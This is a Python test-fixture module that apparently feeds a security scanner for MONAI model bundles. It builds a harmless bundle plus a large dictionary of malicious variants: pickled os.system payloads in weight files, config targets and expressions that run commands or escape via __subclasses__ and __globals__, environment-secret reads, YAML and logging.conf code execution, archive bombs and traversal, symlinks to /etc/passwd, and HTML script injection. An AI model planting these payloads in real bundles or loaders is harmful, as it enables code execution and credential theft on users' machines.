"""Bundles that a careless or malicious author could hand over, each made from one harmless bundle."""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

__all__ = ["ATTACKS", "harmless"]

LOGGING = """[loggers]
keys=root
[handlers]
keys=console
[formatters]
keys=plain
[logger_root]
level=INFO
handlers=console
[handler_console]
class=StreamHandler
args=(sys.stdout,)
formatter=plain
[formatter_plain]
format=%(message)s
"""
CONFIG = {
    "imports": ["$import glob", "$import os", "$import torch.distributed as dist"],
    "bundle_root": ".",
    "ckpt": "$@bundle_root + '/models/model.pt'",
    "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
    "images": "$list(sorted(glob.glob(os.path.join(@bundle_root, 'data', '*.png'))))",
    "network_def": {
        "_target_": "UNet",
        "spatial_dims": 2,
        "in_channels": 1,
        "out_channels": 2,
        "channels": [4, 8],
        "strides": [2],
    },
    "network": "$@network_def.to(@device)",
    "transform": {
        "_target_": "monai.transforms.Compose",
        "transforms": [
            {"_target_": "LoadImaged", "keys": "image", "reader": "PILReader"},
            {"_target_": "Lambdad", "keys": "image", "func": "$lambda x: x / 255.0"},
        ],
    },
    "dataset": {"_target_": "Dataset", "data": "$[{'image': i} for i in @images]", "transform": "@transform"},
    "loader": {"_target_": "DataLoader", "dataset": "@dataset", "batch_size": 1},
    "loss": {"_target_": "torch.nn.CrossEntropyLoss"},
    "handlers": [{"_target_": "StatsHandler", "output_transform": "$monai.handlers.from_engine(['loss'], first=True)"}],
    "evaluator": {
        "_target_": "SupervisedEvaluator",
        "device": "@device",
        "val_data_loader": "@loader",
        "network": "@network",
    },
    "initialize": ["$monai.utils.set_determinism(seed=0)", "$setattr(torch.backends.cudnn, 'benchmark', True)"],
    "run": ["$@evaluator.run()"],
}
METADATA = {
    "version": "0.1.0",
    "changelog": {"0.1.0": "first"},
    "monai_version": "1.6.1",
    "pytorch_version": "2.13.0",
    "numpy_version": "2.4.6",
    "required_packages_version": {"pytorch-ignite": "0.5.5"},
    "references": ["https://arxiv.org/abs/1505.04597"],
    "network_data_format": {"inputs": {"image": {"spatial_shape": ["32*n", "32*n"]}}, "outputs": {}},
}


def harmless(folder: Path) -> Path:
    """A small bundle in which there is nothing to find, weights included."""
    for name in ("configs", "docs", "models"):
        (folder / name).mkdir(parents=True)
    write(folder / "configs" / "inference.json", CONFIG)
    write(folder / "configs" / "metadata.json", METADATA)
    (folder / "configs" / "logging.conf").write_text(LOGGING)
    (folder / "docs" / "README.md").write_text("# A bundle\n")
    (folder / "docs" / "page.html").write_text(PAGE)
    (folder / "LICENSE").write_text("Apache License 2.0\n")
    torch.save({"model": torch.nn.Linear(2, 2).state_dict()}, folder / "models" / "model.pt")
    return folder


def page(addition: str) -> Callable[[Path], None]:
    """A page with one thing more than a harmless one."""
    return text("docs/page.html", PAGE.replace("</body>", f"{addition}</body>"))


def write(path: Path, content: object) -> None:
    path.write_text(json.dumps(content))


PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>x</title><style>p { color: #123 }</style></head>
<body><p id="a" class="b" style="color: red">x &lt; y</p><a href="#a">x</a>
<img alt="" src="data:image/png;base64,AA=="></body></html>
"""


class Payload:
    """What an attacker pickles."""

    def __reduce__(self):
        return os.system, ("echo pwned",)


def config(**changes: object) -> Callable[[Path], None]:
    """The harmless config with other keys; other imports come without what needs its own."""
    base = {**CONFIG, "images": []} if "imports" in changes else CONFIG
    return lambda folder: write(folder / "configs" / "inference.json", {**base, **changes})


def run(*expressions: str) -> Callable[[Path], None]:
    return config(run=list(expressions))


def overlay(content: dict, name: str = "configs/more.json") -> Callable[[Path], None]:
    return lambda folder: write(folder / name, content)


def metadata(**changes: object) -> Callable[[Path], None]:
    return lambda folder: write(folder / "configs" / "metadata.json", {**METADATA, **changes})


def text(name: str, content: str | bytes) -> Callable[[Path], None]:
    def put(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content if isinstance(content, bytes) else content.encode())

    return put


def logging_conf(old: str, new: str) -> Callable[[Path], None]:
    return text("configs/logging.conf", LOGGING.replace(old, new))


def pickled_in_zip(folder: Path) -> None:
    torch.save({"model": Payload()}, folder / "models" / "model.pt")


def pickled_plainly(protocol: int) -> Callable[[Path], None]:
    return text("models/model.pt", pickle.dumps(Payload(), protocol))


def old_torch_file(folder: Path) -> None:
    torch.save({"model": Payload()}, folder / "models" / "model.pt", _use_new_zipfile_serialization=False)


def torchscript(folder: Path) -> None:
    torch.jit.script(torch.nn.Linear(2, 2)).save(str(folder / "models" / "model.ts"))


def torchscript_as_weights(folder: Path) -> None:
    torch.jit.script(torch.nn.Linear(2, 2)).save(str(folder / "models" / "model.pt"))


def zip_of(*members: tuple[str, bytes], name: str = "data.zip", links: tuple[str, ...] = ()) -> Callable[[Path], None]:
    def put(folder: Path) -> None:
        with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED) as archive:
            for member, content in members:
                archive.writestr(member, content)
            for link in links:
                info = zipfile.ZipInfo(link)
                info.external_attr = 0o120777 << 16
                archive.writestr(info, "/etc/passwd")

    return put


def bomb_as_weights(folder: Path) -> None:
    zip_of(("archive/data.pkl", b"\0" * (8 << 20)), name="models/model.pt")(folder)


def tar_of(member: str, kind: bytes = tarfile.REGTYPE, size: int = 0, name: str = "data.tar") -> Callable[[Path], None]:
    def put(folder: Path) -> None:
        with tarfile.open(folder / name, "w:gz" if name.endswith("gz") else "w") as archive:
            info = tarfile.TarInfo(member)
            info.type, info.linkname, info.size = kind, "/etc/passwd", size
            archive.addfile(info, io.BytesIO(b"\0" * size))

    return put


def array(dtype: object, name: str = "models/statistics.npy") -> Callable[[Path], None]:
    """A file of NumPy with a payload wherever its type has an object."""
    return lambda folder: (folder / name).write_bytes(saved(dtype))


def saved(dtype: object) -> bytes:
    import numpy as np

    kind, file = np.dtype(dtype), io.BytesIO()
    values = [Payload() if part.hasobject else 0 for part, *_ in (kind.fields or {"": (kind,)}).values()]
    np.save(file, np.array([tuple(values) if kind.fields else values[0]], dtype=dtype), allow_pickle=True)
    return file.getvalue()


def link(name: str, target: str, *files: str) -> Callable[[Path], None]:
    """A link, and files that hold code which no list knows."""

    def put(folder: Path) -> None:
        for file in files:
            text(file, "import os\n")(folder)
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).symlink_to(target)

    return put


def safetensors_with_more(folder: Path) -> None:
    header = json.dumps({"a": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}).encode()
    content = struct.pack("<Q", len(header)) + header + b"\0" + b"MZ hidden"
    (folder / "models" / "model.safetensors").write_bytes(content)


def evaluation(value: str) -> Callable[[Path], None]:
    return config(more=value)


FIELDS = [(f"measure_{i}", "<f4") for i in range(9)] + [("a", "O")]
ESCAPE = "$[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('id')"
ATTACKS: dict[str, Callable[[Path], None]] = {
    # targets
    "os.system": config(more={"_target_": "os.system", "command": "id"}),
    "os..system, which MONAI finds too": config(more={"_target_": "os..system", "command": "id"}),
    "builtins.eval": config(more={"_target_": "builtins.eval", "_mode_": "callable"}),
    "bare eval": config(more={"_target_": "eval", "source": "1"}),
    "monai.utils.run_cmd": config(more={"_target_": "monai.utils.run_cmd", "cmd_list": ["id"]}),
    "bare run_cmd": config(more={"_target_": "run_cmd", "cmd_list": ["id"]}),
    "torch.utils.collect_env.run": config(more={"_target_": "torch.utils.collect_env.run", "command": "id"}),
    "a module of an allowed one": config(more={"_target_": "monai.utils.misc.subprocess.run", "args": ["id"]}),
    "subprocess": config(more={"_target_": "subprocess.run", "args": ["id"]}),
    "a bundle that runs another": config(more={"_target_": "monai.bundle.run", "config_file": "other.json"}),
    "ConfigParser in a config": config(more={"_target_": "ConfigParser", "config": {}}),
    "computed target": config(name="os.system", more={"_target_": "@name", "command": "id"}),
    "computed by an expression": config(more={"_target_": "$'os.' + 'system'", "command": "id"}),
    "computed by a macro": config(name="os.system", more={"_target_": "%name", "command": "id"}),
    "a component as target": config(more={"_target_": {"_target_": "operator.attrgetter"}, "x": 1}),
    "nested in arguments": config(
        more={
            "_target_": "Compose",
            "transforms": [{"_target_": "Lambdad", "keys": "x", "func": {"_target_": "os.popen"}}],
        }
    ),
    "disabled": config(more={"_target_": "os.system", "command": "id", "_disabled_": True}),
    "required": config(more={"_target_": "Compose", "_requires_": "$__import__('os').system('id')"}),
    "debug mode": config(more={"_target_": "Compose", "_mode_": "debug"}),
    "computed mode": config(mode="debug", more={"_target_": "Compose", "_mode_": "@mode"}),
    "debug argument": config(more={"_target_": "Compose", "_debug_": True}),
    "reader that is a command": config(
        more={"_target_": "LoadImaged", "keys": "image", "reader": "os.system", "command": "id"}
    ),
    "reader by reference": config(
        name="os.system", more={"_target_": "LoadImaged", "keys": "image", "reader": "@name"}
    ),
    "reader in a list": config(more={"_target_": "LoadImaged", "keys": "image", "reader": ["PILReader", "os.system"]}),
    "writer that is a command": config(
        more={"_target_": "SaveImaged", "keys": "pred", "writer": "subprocess.getoutput"}
    ),
    "merger that is a command": config(more={"_target_": "PatchInferer", "splitter": None, "merger_cls": "os.system"}),
    # expressions
    "__import__": run("$__import__('os').system('id')"),
    "getattr": run("$getattr(os, 'sys' + 'tem')('id')"),
    "import and call": config(imports=["$import subprocess"], run=["$subprocess.run(['id'])"]),
    "import under a known name": config(imports=["$import os as np"], run=["$np.system('id')"]),
    "from import": config(imports=["$from os import system as norm"], run=["$norm('id')"]),
    "import of code beside": config(imports=["$import helper"]),
    "import that opens a page": config(imports=["$import antigravity"]),
    "open for writing": run("$open('x', 'w').write('x')"),
    "classes of a tuple": run(ESCAPE),
    "frame of a generator": run("$(x for x in [1]).gi_frame.f_back.f_globals['os'].system('id')"),
    "globals of a method": run("$@network.forward.__globals__['os'].system('id')"),
    "format that reads attributes": run("$'{0.__class__.__init__.__globals__}'.format(@network)"),
    "map of a command": run("$list(map(os.system, ['id']))"),
    "partial of a command": config(
        imports=["$import functools", "$import os"], run=["$functools.partial(os.popen, 'id')()"]
    ),
    "lambda": config(more={"_target_": "Lambdad", "keys": "image", "func": "$lambda x: os.popen(x).read()"}),
    "exec": run("$exec('import os')"),
    "compile": run("$compile('1', 'x', 'eval')"),
    "module through another": run("$monai.utils.misc.subprocess.run(['id'])"),
    "numpy's own os": run("$np.os.system('id')"),
    "builtins by subscript": run("$__builtins__['eval']('1')"),
    "module by reference": config(imports=["$import sys"], run=["$@imports#0.modules['subprocess'].run(['id'])"]),
    "module out of a list": config(imports=["$import sys"], run=["$@imports[0].modules['subprocess'].run(['id'])"]),
    "module by a macro": config(imports=["$import os"], more="%imports#0", run=["$@more.replace('a', 'b')"]),
    "module as an argument": config(o="$import os", more={"_target_": "Dataset", "data": "@o"}),
    "table that runs text": config(imports=["$import pandas as pd"], run=["$pd.read_csv('x.csv').eval('a + b')"]),
    "walrus": run("$(x := os).system('id')"),
    "environment": run("$print(os.environ['AWS_SECRET_ACCESS_KEY'])"),
    "whole environment": run("$print(dict(os.environ))"),
    "hub": run("$torch.hub.load('somebody/repository', 'model')"),
    "jit.load": run("$torch.jit.load('models/model.pt')"),
    "torch.load that unpickles": run("$torch.load(@ckpt, weights_only=False)"),
    "torch.load by keywords": run("$torch.load(@ckpt, **{'weights_only': False})"),
    "torch.load handed on": run("$list(map(torch.load, [@ckpt]))"),
    "numpy that unpickles": run("$np.load('x.npy', allow_pickle=True)"),
    "reader without a name": run("$monai.transforms.LoadImaged('image', 'os.system')"),
    "module search path": config(imports=["$import sys"], run=["$sys.path.append('x')"]),
    "a number that fills memory": run("$9 ** 9 ** 9"),
    "a list that fills memory": run("$[0] * 10 ** 12"),
    "quotes that a reference breaks": run("$'@' or __import__('os').system('id') or '@'"),
    # networks and paths
    "download in an expression": config(
        imports=["$import urllib.request"], run=["$urllib.request.urlretrieve('http://x/y', 'models/model.pt')"]
    ),
    "download by an argument": config(
        more={"_target_": "monai.apps.DecathlonDataset", "root_dir": ".", "download": True}
    ),
    "download by reference": config(
        flag=True, more={"_target_": "monai.apps.DecathlonDataset", "root_dir": ".", "download": "@flag"}
    ),
    "weights from a network by default": config(more={"_target_": "EfficientNetBN", "model_name": "efficientnet-b0"}),
    "weights from a network": config(more={"_target_": "DenseNet121", "pretrained": True, "spatial_dims": 2}),
    "download_url": config(more={"_target_": "download_url", "url": "http://x/y", "filepath": "x"}),
    "address as a value": config(ckpt="https://example.com/model.pt"),
    "address of a process group": run("$dist.init_process_group(init_method='tcp://203.0.113.5:1')"),
    "cache that unpickles": config(
        more={"_target_": "PersistentDataset", "data": [], "transform": [], "cache_dir": "c", "weights_only": False}
    ),
    "absolute path": config(output_dir="/home/somebody/results"),
    "home": config(output_dir="~/.ssh"),
    "traversal": config(ckpt="../../secret.pt"),
    "traversal behind a folder": config(ckpt="$@bundle_root + '/../../secret.pt'"),
    "absolute path in an expression": config(images="$glob.glob('/etc/*')"),
    "drive": config(ckpt="C:\\Users\\x\\model.pt"),
    # where it may hide
    "overlay key": overlay({"network_def#_target_": "os.system"}),
    "overlay key with colons": overlay({"handlers::0::_target_": "os.system"}),
    "merged key": overlay({"+imports": ["$import subprocess"]}),
    "argument by overlay": overlay({"transform#transforms#0#reader": "os.system"}),
    "config in another folder": overlay({"x": {"_target_": "os.system"}}, "docs/example.json"),
    "config in capitals": overlay({"x": {"_target_": "os.system"}}, "configs/TRAIN.JSON"),
    "metadata": metadata(version="$__import__('os').system('id')"),
    "shape that is evaluated": metadata(
        network_data_format={"inputs": {"image": {"spatial_shape": ["__import__('os').system('id')"]}}}
    ),
    "package from an address": metadata(required_packages_version={"x @ https://example.com/x.whl": "1"}),
    "package option": metadata(required_packages_version={"--index-url": "https://example.com"}),
    "macro to a file outside": config(more="%/tmp/evil.json#x"),
    "macro that climbs": config(more="%../other/configs/train.json#x"),
    "macro to a file that is not there": config(more="%configs/none.json#x"),
    "key written twice": text("configs/more.json", '{"a": 1, "a": {"_target_": "Compose"}}'),
    "no JSON": text("configs/more.json", '{"a": '),
    "no UTF-8": text("configs/more.json", json.dumps({"_target_": "os.system"}).encode("utf-16")),
    "deep nesting": text("configs/more.json", "[" * 200_000 + "]" * 200_000),
    "YAML": text("configs/more.yaml", "more:\n  _target_: os.system\n  command: id\n"),
    "YAML by an anchor": text("configs/more.yml", "a: &a os.system\nb:\n  _target_: *a\n"),
    "YAML merge key": text("configs/more.yml", "a: &a\n  _target_: os.system\nb:\n  <<: *a\n  x: 1\n"),
    "YAML tag": text("configs/more.yml", "a: !!python/object/apply:os.system ['id']\n"),
    "YAML that unfolds": text(
        "configs/more.yml",
        "a: &a [x,x,x,x,x,x,x,x,x]\n"
        + "".join(
            f"{n}: &{n} [{','.join('*' + m for _ in range(9))}]\n" for m, n in zip("abcdefgh", "bcdefghi", strict=True)
        ),
    ),
    # characters
    "wide letters": run("$\uff4fs.system('id')"),
    "invisible character": config(more={"_target_": "os.sys\u200btem"}),
    "text that turns around": config(more="$'\u202e' + 'x'"),
    "letter of another alphabet": run("$l\u0435n('x')"),
    # logging
    "logging class": logging_conf("class=StreamHandler", "class=__import__('os').system('id')"),
    "logging class that evaluates": logging_conf("class=StreamHandler\nargs=(sys.stdout,)", "class=eval\nargs=('1',)"),
    "logging arguments": logging_conf("(sys.stdout,)", "(__import__('os').system('id'),)"),
    "logging keywords": logging_conf("(sys.stdout,)", "(sys.stdout,)\nkwargs={'x': open('y')}"),
    "logging to a network": logging_conf(
        "class=StreamHandler\nargs=(sys.stdout,)", "class=handlers.HTTPHandler\nargs=('example.com', '/', 'POST')"
    ),
    "logging to a path": logging_conf(
        "class=StreamHandler\nargs=(sys.stdout,)", "class=FileHandler\nargs=('/etc/cron.d/x', 'w')"
    ),
    "logging put together": logging_conf("class=StreamHandler", "class=%(evil)s\nevil=__import__('os').system('id')"),
    "logging by default section": text("configs/logging.conf", "[DEFAULT]\nclass=eval\n" + LOGGING),
    "logging under another name": text("configs/log.ini", LOGGING.replace("(sys.stdout,)", "(open('x','w'),)")),
    # weights
    "pickle in model.pt": pickled_in_zip,
    "pickle, protocol 0": pickled_plainly(0),
    "pickle, protocol 4": pickled_plainly(4),
    "pickle after a pickle": text("models/model.pt", pickle.dumps({}) + pickle.dumps(Payload())),
    "pickle that breaks off": text("models/model.pt", pickle.dumps(Payload(), 2)[:-1] + b"\xff"),
    "old torch file": old_torch_file,
    "network pickled whole": lambda folder: torch.save(torch.nn.Linear(2, 2), folder / "models" / "model.pt"),
    "pickle called otherwise": text("models/weights.dat", pickle.dumps(Payload(), 4)),
    "pickle called a picture": text("docs/figure.png", pickle.dumps(Payload(), 4)),
    "array of objects": array(object),
    "array with a field of objects": array([("a", "O")]),
    "array whose last field holds objects": array([(f"x{i}", "<f4") for i in range(200)] + FIELDS),
    "archive of arrays": zip_of(("a.npy", saved(FIELDS)), name="a.npz"),
    "archive of arrays called otherwise": zip_of(("a.npy", saved("f4")), ("b", saved(object)), name="a.npz"),
    "TorchScript": torchscript,
    "TorchScript called weights": torchscript_as_weights,
    "bomb as weights": bomb_as_weights,
    "safetensors with more": safetensors_with_more,
    "safetensors that are none": text("models/model.safetensors", b"\xff" * 64),
    "no weights": text("models/model.pt", b"7z\xbc\xaf\x27\x1c" + b"\0" * 64),
    # files
    "site file": text("evil.pth", "import os; os.system('id')\n"),
    "script": text("scripts/__init__.py", "import os\nos.system('id')\n"),
    "script in another encoding": text("scripts/__init__.py", "# coding: utf-7\n#+AAo-import os\n"),
    "script that decodes": text("scripts/net.py", "exec(__import__('base64').b64decode('cGFzcw=='))\n"),
    "code that stands in for a package": text("torch.py", "import os\n"),
    "compiled code": text("scripts/net.pyc", b"\0" * 32),
    "native code": text("scripts/net.so", b"\x7fELF" + b"\0" * 32),
    "program called text": text("docs/notes.txt", b"#!/bin/sh\nid\n"),
    "program called README": text("docs/README.exe", b"x"),
    "shell script": text("run.sh", "id\n"),
    "notebook": text("docs/example.ipynb", "{}"),
    "unknown file": text("models/model.xyz", "?"),
    "requirement from an address": text("requirements.txt", "torch\ngit+https://example.com/x.git\n"),
    "requirement option": text("docs/requirements.txt", "--extra-index-url https://example.com\nx\n"),
    "page with a script": page("<script>fetch('https://example.com')</script>"),
    "page that acts when it is opened": page('<img src="data:image/png;base64,AA==" onerror="alert(1)">'),
    "page that acts without a quote": page("<p onmouseover=alert(1)>x</p>"),
    "page that goes elsewhere": page('<meta http-equiv="refresh" content="0; https://example.com">'),
    "page with a picture from elsewhere": page('<img src="https://example.com/x.png">'),
    "page with a hidden address": page('<a href="&#106;avascript:alert(1)">x</a>'),
    "page in a page": page('<iframe srcdoc="x"></iframe>'),
    "page that sends": page('<form action="https://example.com"><p>x</p></form>'),
    "page whose style fetches": page("<style>p { background: url(https://example.com/x.png) }</style>"),
    "page whose style hides an address": page("<style>p { background: u\\72l(https://example.com/x.png) }</style>"),
    "page whose element fetches": page('<p style="background: url(https://example.com/x.png)">x</p>'),
    "page with a drawing that runs": page("<svg onload=alert(1)></svg>"),
    "page that browsers read otherwise": page("<!-- > <script> -->"),
    "page in capitals": page("<SCRIPT>alert(1)</SCRIPT>"),
    "page of another encoding": text("docs/page.html", "<p>x</p>".encode("utf-16")),
    "link that leaves": link("configs/hosts.json", "/etc/hosts"),
    "linked folder": link("cv2", "docs"),
    "linked folder of git's": link("cv2", ".git/x", ".git/x/__init__.py"),
    "scripts that are a linked folder": link("scripts", ".git/x", ".git/x/__init__.py"),
    "folder linked to from its code": link("scripts/__init__.py", "../.git/x", ".git/x/__init__.py"),
    "linked folder outside": link("scripts", "/usr/lib"),
    "git's folder that is a link": link(".git", "docs"),
    "link to what is not there yet": link("configs/more.json", "../later.json"),
    "links in a circle": link("configs/more.json", "more.json"),
    "code called git's": text("scripts/.git/__init__.py", "import os\n"),
    "zip bomb": zip_of(("zeros", b"\0" * (8 << 20))),
    "zip that climbs": zip_of(("../../x", b"x")),
    "zip with a link": zip_of(links=("x",)),
    "tar": tar_of("inside"),
    "tar with a link": tar_of("inside", tarfile.SYMTYPE),
    "tar with a hard link": tar_of("inside", tarfile.LNKTYPE, name="data.tgz"),
    "tar that climbs": tar_of("../../x", name="data.tar.gz"),
    "tar with a device": tar_of("inside", tarfile.CHRTYPE),
    "tar bomb": tar_of("zeros", size=8 << 20, name="data.tar.gz"),
    "archive that is none": text("data.tar.gz", b"\x1f\x8b\x08\0" + b"\0" * 64),
    "weights without a digest": text("large_files.yml", "large_files:\n- path: models/model.pt\n  url: https://x/y\n"),
    "command in large_files.yml": lambda folder: (
        text("large_files.yml", "large_files: []\nx:\n  _target_: os.system\n  command: id\n")(folder),
        config(more="%large_files.yml#x")(folder),
    )[0],
    "expression without end": run("$" + "+".join(["@device"] * 5000)),
    "module of the scripts": lambda folder: (
        text("scripts/__init__.py", "")(folder),
        text("scripts/net.py", "")(folder),
        config(more={"_target_": "scripts.net"})(folder),
    )[0],
    "module of the scripts in an expression": lambda folder: (
        text("scripts/__init__.py", "")(folder),
        config(imports=["$import scripts"], run=["$[scripts]"])(folder),
    )[0],
    "weights to elsewhere": text(
        "large_files.yml",
        "large_files:\n- path: ../../x.pt\n  url: https://x/y\n  hash_val: '0'\n  hash_type: sha256\n",
    ),
    "script of the bundle reaches a module": lambda folder: (
        text("scripts/__init__.py", "")(folder),
        text("scripts/net.py", "import os\n")(folder),
        config(more={"_target_": "scripts.net.os.system", "command": "id"})(folder),
    )[0],
}
"""By what it does, how the harmless bundle becomes it."""
